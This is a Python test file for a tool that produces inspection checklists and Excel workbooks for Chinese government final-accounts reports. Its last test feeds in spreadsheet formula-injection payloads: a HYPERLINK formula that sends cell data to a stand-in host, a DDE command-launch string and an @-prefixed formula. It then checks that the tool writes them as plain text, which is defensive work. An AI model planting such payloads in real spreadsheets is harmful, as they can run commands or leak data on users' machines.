"""The inspection checklist (检查表): verdicts and quoted problems per part and per table, decisions applied,
uncheckable documents never "是", Excel output as text (no formulas)."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest

from juesuan.cli.main import main
from juesuan.store.sqlite import Store
from juesuan.workspace.checklist import (
    NO,
    UNCHECKED,
    YES,
    Checklist,
    ChecklistRow,
    checklists_from_paths,
    checklists_from_store,
)
from juesuan.workspace.checklist_xlsx import write_checklist

CORPUS = Path(__file__).resolve().parents[1] / "corpus"
SEED = {p.name[:3]: p for p in CORPUS.glob("00[0-4]_*.txt")}


@pytest.fixture(scope="module")
def seed_lists() -> dict[str, Checklist]:
    return {c.document[:3]: c for c in checklists_from_paths([str(CORPUS)])}


def test_every_part_and_every_table_has_a_row(seed_lists: dict[str, Checklist]) -> None:
    cl = seed_lists["003"]
    labels = [r.label for r in cl.rows]
    assert labels[:8] == ["文件可读性（能否核查）", "及时性", "封面（单位名称、年度）", "目录", "主要职能", "机构设置", "名词解释",
                          "情况说明（决算收支情况）"]
    assert [r.key for r in cl.rows if r.key.startswith("T")] == [f"T{i}" for i in range(1, 10)]
    assert cl.kind == "决算" and cl.unit == "天门市商务局" and cl.year == 2023


def test_problems_are_quoted_with_line_and_both_numbers(seed_lists: dict[str, Checklist]) -> None:
    cl = seed_lists["003"]
    other = cl.row("other")
    assert other.verdict == NO
    assert any("10.34" in p and "9.76" in p and "第2402行" in p for p in other.problems), other.problems
    hyg = cl.row("hygiene")
    assert hyg.verdict == NO and any("部门名称" in p and "第61行" in p for p in hyg.problems)
    assert cl.row("glossary").verdict == NO and any("2130199" in p for p in cl.row("glossary").problems)


def test_present_parts_and_declared_empty_tables_conform(seed_lists: dict[str, Checklist]) -> None:
    cl = seed_lists["003"]
    for key in ("readability", "cover", "toc", "duties", "organisation", "T6", "T7"):
        assert cl.row(key).verdict == YES, (key, cl.row(key).problems)
    assert cl.row("T8").verdict == YES and cl.row("T8").problems == ["本表无数据，已作空表说明。"]
    assert cl.row("timeliness").verdict == UNCHECKED  # cannot be decided from the document alone


def test_rounding_tails_are_listed_once_and_do_not_fail_a_table(seed_lists: dict[str, Checklist]) -> None:
    cl = seed_lists["003"]
    tails = [r.key for r in cl.rows if any("ARITH-ROUNDING-TAIL" in p for p in r.problems)]
    assert len(tails) == 1 and cl.row(tails[0]).verdict == YES


def test_an_uncheckable_document_is_never_yes(seed_lists: dict[str, Checklist]) -> None:
    cl = seed_lists["002"]
    assert not cl.checkable and cl.row("readability").verdict == NO
    assert all(r.verdict in (NO, UNCHECKED) for r in cl.rows)
    assert cl.row("T3").verdict in (NO, UNCHECKED) and cl.row("duties").verdict == UNCHECKED


def test_a_missing_part_is_named(tmp_path: Path) -> None:
    text = SEED["000"].read_text(encoding="utf-8").replace("第四部分 名词解释", "第四部分 其他说明")
    doc = tmp_path / "000_no_glossary.txt"
    doc.write_text(text, encoding="utf-8")
    cl = checklists_from_paths([str(doc)])[0]
    assert cl.row("glossary").verdict == NO
    assert cl.row("glossary").problems[0] == "未见“名词解释”部分（正文无相应标题）。"


def test_dismissed_findings_leave_the_checklist_and_confirmed_ones_are_marked(tmp_path: Path) -> None:
    db = tmp_path / "j.db"
    assert main(["scan", str(SEED["003"]), "--out", str(tmp_path / "o"), "--db", str(db), "--quiet"]) == 0
    store = Store(db)
    sangong = next(f for f in store.findings() if f["rule_id"] == "NARR-SANGONG-VS-T7")
    mobile = next(f for f in store.findings() if f["rule_id"] == "HYG-MOBILE-NUMBER")
    store.decide(sangong["finding_key"], "dismissed", inspector="张三", reason="已核实为表格取数口径差异")
    store.decide(mobile["finding_key"], "confirmed", inspector="张三", reason="")
    cl = checklists_from_store(store)[0]
    assert not any("NARR-SANGONG-VS-T7" in p for r in cl.rows for p in r.problems)
    assert any("HYG-MOBILE-NUMBER（已确认）" in p for p in cl.row("hygiene").problems)


def test_cli_writes_one_workbook_per_document_and_the_period_summary(tmp_path: Path) -> None:
    db = tmp_path / "j.db"
    assert main(["scan", str(CORPUS), "--out", str(tmp_path / "o"), "--db", str(db), "--quiet"]) == 0
    assert main(["checklist", "--db", str(db), "--out", str(tmp_path / "c")]) == 0
    books = sorted((tmp_path / "c" / "检查表").glob("*.xlsx"))
    assert len(books) == 5
    ws = openpyxl.load_workbook(next(b for b in books if "天门市商务局" in b.name)).active
    assert [c.value for c in ws[4]] == ["序号", "检查内容", "符合要求", "问题描述"]
    assert ws.freeze_panes == "A5" and ws.auto_filter.ref
    (summary,) = (tmp_path / "c").glob("检查表汇总_*.xlsx")
    sw = openpyxl.load_workbook(summary).active
    assert sw.max_row == 6 and sw.cell(1, 7).value == "文件可读性（能否核查）"
    assert main(["checklist", "--db", str(tmp_path / "missing.db"), "--out", str(tmp_path / "c")]) == 2


def test_document_text_is_never_written_as_a_formula(tmp_path: Path) -> None:
    cl = Checklist('=HYPERLINK("http://x.example/"&A2,"点击")', "=cmd|' -C calc'!A0", 2024, "决算", None, True,
                   [ChecklistRow("hygiene", "文本规范", NO, ["@SUM(1+1) 文中残留"])])
    path = write_checklist(cl, tmp_path / "x.xlsx")
    ws = openpyxl.load_workbook(path).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert ws.cell(1, 1).value.startswith("=cmd") and ws.cell(5, 4).value == "@SUM(1+1) 文中残留"
